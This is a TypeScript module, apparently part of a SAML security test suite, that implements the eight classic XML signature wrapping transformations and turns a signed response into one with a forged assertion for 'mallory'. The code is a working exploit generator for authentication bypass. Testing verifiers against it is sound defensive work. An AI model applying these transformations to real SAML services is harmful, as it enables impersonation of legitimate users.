// The eight classic wrapping transformations (Somorovsky et al. 2012), each applied to a freshly signed response. The forged assertion
// names mallory; the genuine one names carol.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import type { Mode } from './make-response.ts'

const dsig = 'http://www.w3.org/2000/09/xmldsig#'
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol'

export const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml')
export const print = (document: Document): string => new XMLSerializer().serializeToString(document)

const directly = (parent: Element, name: string): Element | undefined =>
  Array.from(parent.childNodes).find((n) => (n as Element).localName === name) as Element | undefined
export const must = (parent: Element, name: string): Element => {
  const found = directly(parent, name)
  if (!found) throw new Error(`no ${name} in ${parent.nodeName}`)
  return found
}
const copyOf = (element: Element): Element => element.cloneNode(true) as Element
export const withoutSignature = (element: Element): Element => {
  const copy = copyOf(element)
  const signature = directly(copy, 'Signature')
  if (signature) copy.removeChild(signature)
  return copy
}

/** The assertion, unsigned, with another ID and another name. */
export const forged = (assertion: Element): Element => {
  const copy = withoutSignature(assertion)
  copy.setAttribute('ID', '_evil')
  must(must(copy, 'Subject'), 'NameID').textContent = 'mallory@corp.example'
  return copy
}
const forge = (assertion: Element): void => {
  assertion.setAttribute('ID', '_evil')
  must(must(assertion, 'Subject'), 'NameID').textContent = 'mallory@corp.example'
}

type Parts = {
  readonly document: Document
  readonly response: Element
  readonly assertion: Element
  /** The signature that is abused: the response's where there is one for 1 and 2, the assertion's for the others. */
  readonly ofResponse: Element
  readonly ofAssertion: Element
}

const objectIn = ({ document }: Parts): Element => document.createElementNS(dsig, 'ds:Object')

const transformations: { readonly [n: number]: (parts: Parts) => void } = {
  1: (p) => {
    const original = withoutSignature(p.response)
    p.response.setAttribute('ID', '_evilresponse')
    forge(p.assertion)
    p.ofResponse.appendChild(original)
  },
  2: (p) => {
    const original = withoutSignature(p.response)
    p.response.setAttribute('ID', '_evilresponse')
    forge(p.assertion)
    p.ofResponse.parentNode?.insertBefore(original, p.ofResponse)
  },
  3: (p) => void p.response.insertBefore(forged(p.assertion), p.assertion),
  4: (p) => {
    const evil = forged(p.assertion)
    p.response.replaceChild(evil, p.assertion)
    evil.appendChild(p.assertion)
  },
  5: (p) => {
    const original = withoutSignature(p.assertion)
    forge(p.assertion)
    p.response.appendChild(original)
  },
  6: (p) => {
    const original = withoutSignature(p.assertion)
    forge(p.assertion)
    p.ofAssertion.appendChild(original)
  },
  7: (p) => {
    const extensions = p.document.createElementNS(protocol, 'samlp:Extensions')
    extensions.appendChild(forged(p.assertion))
    p.response.insertBefore(extensions, must(p.response, 'Status'))
  },
  8: (p) => {
    const original = withoutSignature(p.assertion)
    forge(p.assertion)
    const object = objectIn(p)
    object.appendChild(original)
    p.ofAssertion.appendChild(object)
  },
}
export const numbers = [1, 2, 3, 4, 5, 6, 7, 8] as const

/** `variant` with-object: 1 and 6 hide the original in ds:Object, which the schema allows. */
export const wrapped = (n: (typeof numbers)[number], xml: string, mode: Mode): string => {
  const document = parse(xml)
  const response = document.documentElement
  const assertion = must(response, 'Assertion')
  const own = (holder: Element, other: Element) => directly(holder, 'Signature') ?? must(other, 'Signature')
  const parts: Parts = {
    document,
    response,
    assertion,
    ofResponse: own(mode === 'assertion' ? assertion : response, assertion),
    ofAssertion: own(assertion, response),
  }
  transformations[n]?.(parts)
  return print(document)
}
